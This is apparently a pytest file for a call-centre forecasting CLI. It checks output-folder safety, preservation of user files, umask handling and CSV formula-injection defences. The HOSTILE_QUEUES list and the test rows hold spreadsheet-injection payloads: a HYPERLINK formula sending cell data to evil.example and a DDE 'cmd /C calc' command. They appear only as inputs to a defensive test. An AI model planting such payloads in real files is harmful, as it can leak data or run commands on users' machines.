"""The real commands on a shared ``--out`` (issue 24): a failing ingest keeps the last good
outputs byte for byte, ingest and kpis share a folder, a user's files and anything a
hand-written marker lists stay, every CSV is formula-safe with numbers kept as numbers, and
outputs honour the umask."""

import hashlib
import json
import logging
import os
import re
import stat

import pandas as pd
import pytest

from forecasting.common.output_files import MARKER
from tests.conftest import BANK_CALLS

HEADER = "contact_id,queue,arrival_time,answer_time,end_time,handle_seconds,abandoned"
GOOD = [
    "c1,sales,2024-01-08 09:00:00,2024-01-08 09:00:30,2024-01-08 09:05:00,270,0",
    "c2,sales,2024-01-08 09:01:00,2024-01-08 09:01:10,2024-01-08 09:04:00,170,0",
    "c3,support,2024-01-08 09:02:00,,2024-01-08 09:03:00,,1",
]
HOSTILE_QUEUES = [
    '"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    "@SUM(1+1)",
    "-2+3",
    "+cmd|' /C calc'!A0",
]
NUMBER = re.compile(r"\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*")


def write(path, lines):
    path.write_text("\n".join(lines) + "\n")
    return path


def files(folder, but=(MARKER,)):
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest()
        for p in folder.iterdir()
        if p.is_file() and p.name not in but
    }


@pytest.fixture
def logs(tmp_path):
    good = write(tmp_path / "good.csv", [HEADER, *GOOD])
    nothing_usable = write(
        tmp_path / "bad.csv", [HEADER, GOOD[0].replace("2024-01-08 09:00:00", "yesterday", 1)]
    )
    return good, nothing_usable


def test_a_failing_ingest_keeps_the_last_good_outputs_byte_for_byte(run_cli, tmp_path, logs):
    good, bad = logs
    out = tmp_path / "out"
    assert run_cli("ingest", good, "--out", out)[0] == 0
    before = files(out)
    assert {"intervals.csv", "summary.json", "rejected.csv", "anomalies.csv", "gaps.csv"} <= set(before)
    # a row without an id is rejected without --reject-bad-rows too
    no_ids = write(tmp_path / "no_ids.csv", [HEADER, "," + GOOD[0].split(",", 1)[1]])
    for args, found in (((bad, "--reject-bad-rows"), "yesterday"), ((no_ids,), "missing contact id")):
        code, _, err = run_cli("ingest", *args, "--out", out)
        assert code == 2 and err.count("\n") == 1 and "rejected_failed.csv" in err and "kept" in err, err
        after = files(out)
        assert {k: after[k] for k in before} == before
        assert found in (out / "rejected_failed.csv").read_text()
    assert run_cli("ingest", good, "--out", out)[0] == 0  # a good run supersedes the failed one's rows
    assert set(files(out)) == set(before)


def test_a_failing_ingest_in_a_new_folder_still_writes_rejected_csv(run_cli, tmp_path, logs):
    code, _, err = run_cli("ingest", logs[1], "--reject-bad-rows", "--out", tmp_path / "out")
    assert code == 2 and "(all in rejected.csv)" in err
    assert "yesterday" in (tmp_path / "out" / "rejected.csv").read_text()


def test_ingest_and_kpis_share_a_folder(run_cli, tmp_path, logs):
    good, bad = logs
    out = tmp_path / "out"
    assert run_cli("ingest", good, "--out", out)[0] == 0
    ingest = files(out)
    code, _, err = run_cli("kpis", good, "--out", out)
    assert code == 0, err
    assert {k: v for k, v in files(out).items() if k in ingest} == ingest
    kpis = {k: v for k, v in files(out).items() if k not in ingest}
    assert "kpis.csv" in kpis
    assert run_cli("ingest", good, "--out", out)[0] == 0
    assert run_cli("kpis", bad, "--out", out)[0] == 2  # a failed kpis: its rows beside, nothing replaced
    now = files(out)
    assert {k: now[k] for k in kpis} == kpis
    assert set(json.loads((out / MARKER).read_text())["runs"]) >= {"ingest", "kpis"}


def test_a_users_files_and_a_hand_written_marker_lose_nothing(run_cli, tmp_path, logs):
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "x.csv").write_text("outside\n")
    (out / "notes.txt").write_text("mine\n")
    (out / "kpis.csv").write_text("my own kpis\n")
    listed = ["notes.txt", "kpis.csv", "../x.csv", str(tmp_path / "x.csv")]
    (out / MARKER).write_text(json.dumps({"command": "ingest", "status": "complete", "files": listed}))
    assert run_cli("ingest", logs[0], "--out", out)[0] == 0
    code, _, err = run_cli("kpis", logs[0], "--out", out)  # would replace the user's kpis.csv: refused
    assert code == 2 and err.count("\n") == 1 and "kpis.csv" in err and "did not write" in err, err
    assert (out / "notes.txt").read_text() == "mine\n" and (out / "kpis.csv").read_text() == "my own kpis\n"
    assert (tmp_path / "x.csv").read_text() == "outside\n"
    code, _, err = run_cli("ingest", logs[0], "--out", out)
    assert code == 0 and (out / "notes.txt").exists() and (out / "kpis.csv").exists()


def risky(cell):
    return (
        isinstance(cell, str)
        and (cell.lstrip(" \n")[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r"))
        and not NUMBER.fullmatch(cell)
    )


def test_every_csv_written_is_formula_safe_and_said_once(run_cli, tmp_path, caplog):
    rows = [
        f"c{i},{queue},2024-01-08 09:0{i}:00,2024-01-08 09:0{i}:30,2024-01-08 09:0{i}:50,20,0,x"
        for i, queue in enumerate(HOSTILE_QUEUES)
    ]
    rows.append("=1+1,@evil,=cmd|' /C calc'!A0,,,,1,-3+3")  # rejected: its original cells kept
    log = write(tmp_path / "log.csv", [HEADER + ",=HYPERLINK(1)", *rows])
    out = tmp_path / "out"
    for command in ("ingest", "kpis"):
        caplog.clear()
        with caplog.at_level(logging.WARNING, logger="capplan"):
            code, _, err = run_cli(command, log, "--reject-bad-rows", "--out", out)
        assert code == 0, err
        notes = [r.getMessage() for r in caplog.records if "formulas" in r.getMessage()]
        assert len(notes) == 1 and "prefixed with '" in notes[0], notes
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} >= {"intervals.csv", "rejected.csv", "kpis.csv"}
    for path in written:
        text = pd.read_csv(path, dtype=str, keep_default_na=False)
        assert not [c for c in [*text.columns, *text.to_numpy().ravel()] if risky(c)], path.name
    intervals = pd.read_csv(out / "intervals.csv")
    assert pd.api.types.is_integer_dtype(intervals["arrivals"]) and intervals["arrivals"].sum() == 4
    assert sorted(intervals["queue"].unique())[0].startswith("'")
    rejected = pd.read_csv(out / "rejected.csv", dtype=str)
    assert rejected.loc[0, "contact_id"] == "'=1+1" and rejected.loc[0, "queue"] == "'@evil"
    assert "'=HYPERLINK(1)" in rejected.columns
    kpis = pd.read_csv(out / "kpis.csv")
    assert pd.api.types.is_numeric_dtype(kpis["value"])


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_outputs_honour_the_umask(run_cli, tmp_path, logs, umask):
    old = os.umask(umask)
    try:
        assert run_cli("ingest", logs[0], "--out", tmp_path / "out")[0] == 0
        forecast = ("forecast", BANK_CALLS, "--time-col", "DateTime", "--value-col", "Calls")
        assert run_cli(*forecast, "--model", "weekday_mean", "--out", tmp_path / "f.csv")[0] == 0
    finally:
        os.umask(old)
    made = [tmp_path / "f.csv", *(tmp_path / "out").iterdir()]
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in made} == {
        p.name: oct(0o666 & ~umask) for p in made
    }
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o777 & ~umask


def test_scenario_run_refuses_a_users_file_before_the_work(run_cli, write_scenario, tmp_path):
    """A file of the user's where a scenario writes its table is kept and said before the
    scenario is run (no forecast, no MLflow run), not found after minutes of work."""
    from tests.conftest import FAST

    # its champion does not exist: run first, the scenario would fail on that instead
    path = write_scenario("fast", {**FAST, "forecast": {**FAST["forecast"], "model": "champion"}})
    folder = tmp_path / "out" / "fast"
    folder.mkdir(parents=True)
    (folder / "daily.csv").write_text("my own notes\n")
    code, _, err = run_cli("scenario", "run", path, "--out", tmp_path / "out", "--no-track")
    assert code == 2 and "daily.csv" in err and len(err.strip().splitlines()) == 1
    assert (folder / "daily.csv").read_text() == "my own notes\n"
    assert sorted(p.name for p in folder.iterdir()) == ["daily.csv"]  # nothing else was written
